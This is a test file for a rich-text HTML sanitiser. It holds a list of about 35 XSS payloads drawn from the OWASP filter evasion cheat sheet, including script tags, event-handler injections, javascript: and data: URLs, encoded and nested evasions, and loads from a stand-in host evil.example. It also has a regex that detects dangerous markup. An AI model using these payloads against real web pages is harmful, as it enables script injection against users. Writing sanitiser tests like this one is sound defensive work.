import { plainText, sanitizeRichText } from "./rich-text";

/** Known XSS vectors (after the OWASP filter evasion cheat sheet): nothing executable survives. */
const VECTORS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="/images/plays/a/photo0.jpg" onerror="alert(1)">`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="jav&#x09;ascript:alert(1)">click</a>`,
  `<a href=" javascript:alert(1)">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  `<a href="//evil.example/">protocol relative</a>`,
  `<a href="https://ok.example/" onclick="alert(1)" target="_blank">ok</a>`,
  `<p style="background:url(javascript:alert(1))">styled</p>`,
  `<style>body{background:url("javascript:alert(1)")}</style>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<object data="https://evil.example/x.swf"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<svg onload=alert(1)><script>alert(1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<body onload=alert(1)>`,
  `<div onmouseover="alert(1)">hover</div>`,
  `<form action="javascript:alert(1)"><input type=submit></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
  `<link rel=stylesheet href="javascript:alert(1)">`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `"><script>alert(1)</script>`,
  `<img src="https://evil.example/track.gif">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `<textarea><script>alert(1)</script></textarea>`,
];

const DANGEROUS = /<script|<style|<iframe|<object|<embed|<svg|<math|<form|<meta|<base|<link|<body|<template|on\w+\s*=|javascript:|vbscript:|data:|style=|\/\/evil/i;

describe("rich text sanitising", () => {
  test.each(VECTORS)("neutralises %s", (vector) => {
    const clean = sanitizeRichText(vector);
    expect(clean).not.toMatch(DANGEROUS);
    // Sanitising is stable: what we store is already clean.
    expect(sanitizeRichText(clean)).toBe(clean);
  });

  test("keeps headings, paragraphs, lists, emphasis, links and our own images", () => {
    const html =
      '<h2>Title</h2><p>Some <strong>bold</strong>, <em>emphasis</em> and <a href="https://example.org/">a link</a>, ' +
      '<a href="mailto:box@example.org">mail</a>, <a href="/auditions">a page</a>.</p><ul><li>One</li></ul><ol><li>Two</li></ol>' +
      '<img src="/images/blogs/abc/photo0.jpg" alt="A photo">';
    expect(sanitizeRichText(html)).toBe(
      '<h2>Title</h2><p>Some <strong>bold</strong>, <em>emphasis</em> and <a href="https://example.org/" rel="noopener">a link</a>, ' +
        '<a href="mailto:box@example.org" rel="noopener">mail</a>, <a href="/auditions" rel="noopener">a page</a>.</p><ul><li>One</li></ul><ol><li>Two</li></ol>' +
        '<img src="/images/blogs/abc/photo0.jpg" alt="A photo" />',
    );
  });

  test("plain text drops every tag", () => {
    expect(plainText("<p>Hello <strong>there</strong></p><p>again</p>")).toBe("Hello there again");
  });
});
